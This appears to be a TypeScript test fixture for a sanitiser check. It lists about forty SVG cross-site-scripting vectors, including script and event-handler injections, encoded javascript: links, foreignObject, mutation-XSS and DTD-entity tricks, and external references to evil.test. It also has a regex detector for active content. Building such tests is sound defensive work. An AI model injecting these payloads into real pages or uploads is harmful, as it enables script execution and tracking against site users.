/**
 * SVG XSS vectors served through the icon route by the simulator's unsafe-SVG fault. Each one
 * must come back either sanitised (no executable or external reference left) or as 502.
 */
const svg = (inner: string, attrs = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"${attrs}>${inner}<path d="M0 0h24v24H0z"/></svg>`;

export const SVG_XSS_CORPUS: { name: string; body: string }[] = [
  { name: 'script element', body: svg('<script>alert(1)</script>') },
  { name: 'script with xlink:href', body: svg('<script xlink:href="https://evil.test/x.js"/>') },
  { name: 'CDATA script', body: svg('<script><![CDATA[alert(1)]]></script>') },
  { name: 'onload on root', body: svg('', ' onload="alert(1)"') },
  { name: 'onclick on path', body: svg('<path onclick="alert(1)" d="M1 1"/>') },
  { name: 'onmouseover upper case', body: svg('<rect ONMOUSEOVER="alert(1)" width="5" height="5"/>') },
  { name: 'onbegin on animate', body: svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>') },
  { name: 'javascript: link', body: svg('<a href="javascript:alert(1)"><circle r="4"/></a>') },
  { name: 'javascript: xlink link', body: svg('<a xlink:href="javascript:alert(1)"><circle r="4"/></a>') },
  { name: 'entity-encoded javascript:', body: svg('<a href="&#106;avascript:alert(1)"><circle r="4"/></a>') },
  {
    name: 'hex-entity javascript:',
    body: svg('<a href="&#x6A;&#x61;vascript:alert(1)"><circle r="4"/></a>'),
  },
  { name: 'tab-split javascript:', body: svg('<a href="java&#9;script:alert(1)"><circle r="4"/></a>') },
  {
    name: 'foreignObject with html',
    body: svg(
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
    ),
  },
  {
    name: 'foreignObject iframe',
    body: svg('<foreignObject><iframe src="https://evil.test"></iframe></foreignObject>'),
  },
  { name: 'external use', body: svg('<use href="https://evil.test/sprite.svg#a"/>') },
  { name: 'external use xlink', body: svg('<use xlink:href="https://evil.test/sprite.svg#a"/>') },
  {
    name: 'data: use',
    body: svg('<use href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/>'),
  },
  { name: 'style url() external', body: svg('<style>path{fill:url(https://evil.test/p.svg#g)}</style>') },
  { name: 'style @import', body: svg('<style>@import url("https://evil.test/x.css");</style>') },
  { name: 'style escaped url', body: svg('<style>path{background:\\75rl(https://evil.test/x)}</style>') },
  { name: 'style attribute url()', body: svg('<path style="fill:url(https://evil.test/x#g)" d="M1 1"/>') },
  { name: 'fill attribute url()', body: svg('<path fill="url(https://evil.test/x#g)" d="M1 1"/>') },
  { name: 'filter attribute url() data', body: svg('<path filter="url(data:image/svg+xml,x)" d="M1 1"/>') },
  {
    name: 'set on href',
    body: svg('<a><set attributeName="href" to="javascript:alert(1)"/><circle r="4"/></a>'),
  },
  {
    name: 'animate on href',
    body: svg('<a><animate attributeName="href" values="javascript:alert(1)"/><circle r="4"/></a>'),
  },
  {
    name: 'animate xlink:href',
    body: svg('<a><animate attributeName="xlink:href" from="#" to="javascript:alert(1)"/><text>x</text></a>'),
  },
  { name: 'remote image', body: svg('<image href="https://evil.test/track.png" width="10" height="10"/>') },
  { name: 'image xlink remote', body: svg('<image xlink:href="https://evil.test/track.png"/>') },
  {
    name: 'data: image',
    body: svg('<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/>'),
  },
  {
    name: 'feImage external',
    body: svg('<filter id="f"><feImage href="https://evil.test/x.png"/></filter>'),
  },
  {
    name: 'DTD entity',
    body: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svg('<text>&x;</text>')}`,
  },
  { name: 'external DTD', body: `<!DOCTYPE svg SYSTEM "https://evil.test/x.dtd">${svg('')}` },
  { name: 'iframe in svg', body: svg('<iframe src="javascript:alert(1)"></iframe>') },
  {
    name: 'embed and object',
    body: svg('<embed src="https://evil.test/x.swf"/><object data="https://evil.test/x"></object>'),
  },
  { name: 'mXSS style breakout', body: svg('<style><img src=x onerror=alert(1)></style>') },
  {
    name: 'namespace confusion math',
    body: svg('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'),
  },
  {
    name: 'animate values with javascript:',
    body: svg('<a><animate attributeName="fill" values="javascript:alert(1)"/><circle r="4"/></a>'),
  },
  { name: 'frameset after the svg', body: `${svg('<rect/>')}<frameset>` },
  { name: 'frameset with onload', body: `<frameset onload="alert(1)">${svg('<rect/>')}` },
  { name: 'not svg at all', body: '<html><body onload="alert(1)"><script>alert(1)</script></body></html>' },
];

/** True when the text still holds something executable or an external reference. */
export function holdsActiveContent(text: string): boolean {
  return (
    /<script|<foreignobject|<iframe|<embed|<object|<image|<feimage|<animate|<set\b|<!doctype|<!entity/iu.test(
      text,
    ) ||
    /\son[a-z]+\s*=/iu.test(text) ||
    /javascript:|data:|https?:\/\/(?!www\.w3\.org\/(?:2000\/svg|1999\/xlink))/iu.test(text) ||
    /@import/iu.test(text) ||
    /(?:xlink:)?href="(?!#)/iu.test(text)
  );
}
